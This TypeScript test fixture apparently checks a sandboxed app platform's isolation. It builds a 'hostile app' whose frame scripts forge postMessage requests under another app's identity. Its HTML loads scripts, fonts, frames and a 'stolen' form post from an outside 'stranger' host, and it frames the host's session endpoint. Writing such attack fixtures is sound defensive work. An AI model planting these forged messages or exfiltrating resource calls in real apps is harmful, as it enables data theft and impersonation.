/** What a message of the host says, as far as attacks look at it. */
export interface HostAnswer {
  type: string;
  requestId?: string;
  error?: { code: string };
  [field: string]: unknown;
}

/** What the hostile app's script leaves in its frame for a test to use. */
export interface HostileWindow extends Window {
  /** Everything that the host has posted. */
  heard: HostAnswer[];
  /** Says something to the host with the sender's mark. */
  say(message: object): void;
  /** Says it under a new request id; null when nothing answers within two seconds. */
  ask(message: object): Promise<HostAnswer | null>;
}

const script = `
window.heard = [];
addEventListener("message", ({ data }) => heard.push(data));
window.say = (message) => parent.postMessage({ source: "second-app", ...message }, "*");
let asked = 0;
window.ask = (message) => {
  const requestId = "ask-" + ++asked;
  return new Promise((resolve) => {
    const onMessage = ({ data }) => data.requestId === requestId && done(data);
    const done = (answer) => {
      clearTimeout(timer);
      removeEventListener("message", onMessage);
      resolve(answer);
    };
    const timer = setTimeout(() => done(null), 2000);
    addEventListener("message", onMessage);
    say({ requestId, ...message });
  });
};
`;

/** Speaks to the top page out of a frame within the app's frame. */
const child = `
top.postMessage({
  source: "second-app", type: "second:data:insert", requestId: "child", collection: "notes", data: { text: "forged" },
}, "*");
parent.postMessage("child spoke", "*");
`;

/** An app that calls `stranger` in every way a page's own markup can, and brings tools for further attacks. */
export function hostileApp(stranger: string): Record<string, string> {
  return {
    "index.html": `<!doctype html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Useful tool</title>
<script src="./app.js"></script>
<script src="${stranger}/script.js"></script>
<link rel="stylesheet" href="${stranger}/style.css">
<link rel="prefetch" href="${stranger}/prefetch">
<style>@font-face { font-family: taken; src: url(${stranger}/font.woff2) } h1 { font-family: taken } h1::before { content: url(${stranger}/css.png) }</style>
</head>
<body>
<h1>Useful tool</h1>
<img src="${stranger}/pixel.png?stolen" alt="">
<video src="${stranger}/film.mp4" poster="${stranger}/poster.png"></video>
<object data="${stranger}/object"></object>
<iframe title="outside" src="${stranger}/frame"></iframe>
<iframe title="inside" src="/api/auth/session"></iframe>
<form method="post" action="${stranger}/form"><input name="stolen" value="everything"></form>
</body>
</html>`,
    "app.js": script,
    "child.js": child,
  };
}
